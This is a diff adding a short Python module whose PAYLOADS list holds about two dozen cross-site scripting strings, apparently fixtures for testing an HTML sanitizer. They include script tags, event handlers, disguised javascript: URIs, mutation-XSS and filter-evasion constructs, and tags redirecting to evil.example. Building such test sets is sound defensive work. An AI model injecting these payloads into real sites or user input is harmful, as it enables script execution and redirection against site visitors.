@@ -1,0 +1,28 @@
+"""Texts that run a script wherever they are taken for HTML."""
+
+PAYLOADS = [
+    "<script>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    "<svg/onload=alert(1)>",
+    "<a href='javascript:alert(1)'>a</a>",
+    "<a href='jAvAsCrIpT&colon;alert(1)'>a</a>",
+    "<a href='java\nscript:alert(1)'>a</a>",
+    "<a href=' &#14; javascript:alert(1)'>a</a>",
+    "<a href='data:text/html,<script>alert(1)</script>'>a</a>",
+    "<a href='vbscript:msgbox(1)'>a</a>",
+    "<a href='//evil.example'>a</a>",
+    '<p onclick="alert(1)" style="background:url(javascript:alert(1))">p</p>',
+    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
+    "<math><mtext><table><mglyph><style><!--</style><img src onerror=alert(1)>",
+    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
+    "<style>@import 'javascript:alert(1)';</style>",
+    "<form action='https://evil.example'><input name=q><button>Go</button></form>",
+    "<base href='https://evil.example/'>",
+    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
+    "<object data='data:text/html,<script>alert(1)</script>'></object>",
+    "<template><script>alert(1)</script></template>",
+    "<p>unclosed <em>text <script",
+    "<<script>alert(1)//<</script>",
+    "<scr<script>ipt>alert(1)</scr</script>ipt>",
+    "<a href='https://x.example' target=_blank id=x name=y class=z>a</a>",
+]
